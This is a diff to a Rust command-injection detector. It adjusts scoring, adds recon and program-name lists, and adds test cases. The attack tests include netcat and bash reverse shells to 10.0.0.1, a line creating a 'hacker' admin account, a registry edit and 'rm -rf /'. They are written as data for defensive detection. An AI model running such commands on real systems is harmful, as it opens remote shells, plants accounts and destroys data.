@@ -82,8 +82,12 @@ fn whole_command(pieces: &[Piece]) -> Option<Hit> {
         .next()
         .unwrap_or(program)
         .to_ascii_lowercase();
-    let strong = is_program(&name);
-    let english = is_english_program(&name);
+    // At the start of a value a program name is also a search term
+    // (`python 3`, `PS 5`, `LS 400`, `Route 66`, `NC 27601`): those need
+    // the arguments a word does.
+    let searched = SEARCHED.contains(&name.as_str());
+    let strong = is_program(&name) && !searched;
+    let english = is_english_program(&name) || searched;
     let arguments = matches!(rest.first(), Some(Piece::Word(_))) && takes_arguments(rest);
     let system = rest.iter().any(|piece| match piece {
         Piece::Word(word) => {
@@ -96,17 +100,29 @@ fn whole_command(pieces: &[Piece]) -> Option<Hit> {
                 "/sbin/",
                 "c:\\windows",
                 "c:windows",
+                "%systemroot%",
+                "%windir%",
             ]
             .iter()
             .any(|dir| lower.starts_with(dir))
         }
         _ => false,
     });
+    // `which nc`, `reg add ...`: a program that names another or changes the system.
+    let second = match rest.first() {
+        Some(Piece::Word(word)) => word.to_ascii_lowercase(),
+        _ => String::new(),
+    };
+    let manages = (name == "which" && (is_program(&second) || is_english_program(&second)))
+        || (name == "reg" && ["add", "query", "delete", "save", "export"].contains(&second.as_str()))
+        || (name == "net" && NET_COMMANDS.contains(&second.as_str()));
     let score = match (strong, english, arguments, system) {
-        (true, _, true, true) => 5,
-        (true, _, true, false) | (false, true, true, true) => 4,
+        _ if manages => 5,
+        (true, _, true, _) | (false, true, true, true) => 5,
+        // The reconnaissance commands, alone: what a probe runs first.
+        (true, _, false, _) if rest.is_empty() && RECON.contains(&name.as_str()) => 5,
         (true, _, false, _) if rest.is_empty() => 3,
-        (false, true, true, false) => 3,
+        (false, true, true, false) => 4,
         _ => return None,
     };
     Some(Hit {
@@ -128,7 +144,13 @@ fn code_execution(value: &str) -> Option<Hit> {
         let argument = value[at + 1..].trim_start();
         argument.starts_with(['\'', '"', '`']) && CODE_CALLS.iter().any(|c| name.eq_ignore_ascii_case(c.as_bytes()))
     });
+    // PHP's information functions need no argument.
+    let php_info = memchr::memchr_iter(b'(', bytes).any(|at| {
+        let name = preceding_word(bytes, at);
+        name.eq_ignore_ascii_case(b"phpinfo") || name.eq_ignore_ascii_case(b"phpversion")
+    });
     let runs = call
+        || php_info
         || memchr::memmem::find(bytes, b"child_process").is_some()
         || memchr::memmem::find(bytes, b"<!--#exec").is_some();
     runs.then_some(Hit {
@@ -149,6 +171,23 @@ pub(super) fn preceding_word(bytes: &[u8], at: usize) -> &[u8] {
 }
 
 /// Functions that run a command line or code given as a string.
+/// Program names people also search for, or write as words.
+const SEARCHED: &[&str] = &[
+    "route", "dig", "nc", "node", "python", "python2", "python3", "perl", "ruby", "php", "lua", "curl", "bash", "ps",
+    "ls", "rm", "sc", "ver", "sed", "awk", "ssh", "sh", "dir", "arp", "gawk", "zsh",
+];
+
+/// Commands that only tell an attacker about the machine.
+const RECON: &[&str] = &[
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "systeminfo",
+    "netstat",
+    "sysinfo",
+];
+
 const CODE_CALLS: &[&str] = &[
     "system",
     "exec",
@@ -619,6 +658,12 @@ mod tests {
             "|nc -e /bin/sh 10.0.0.1 4444",
             "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
             "%0aid",
+            "uname -a",
+            "which nc",
+            "net user hacker Password1 /ADD",
+            "reg add \"HKLM\\System\" /v x /d 0 /f",
+            "rm -rf /",
+            "phpinfo()",
         ]
         .into_iter()
         .filter(|attack| score(attack) < 5 && score(&attack.replace("%0a", "\n")) < 5)
@@ -650,6 +695,12 @@ mod tests {
             "fish & chips; mushy peas",
             "<b>bold</b> & <i>italic</i>",
             "meet me at 5; time flies",
+            "Route 66 & 4th Ave (corner)",
+            "PS 5",
+            "python 3",
+            "LS 400 (1990)",
+            "Raleigh, NC 27601",
+            "rm -rf meme shirt",
         ]
         .into_iter()
         .filter(|benign| score(benign) >= 5)
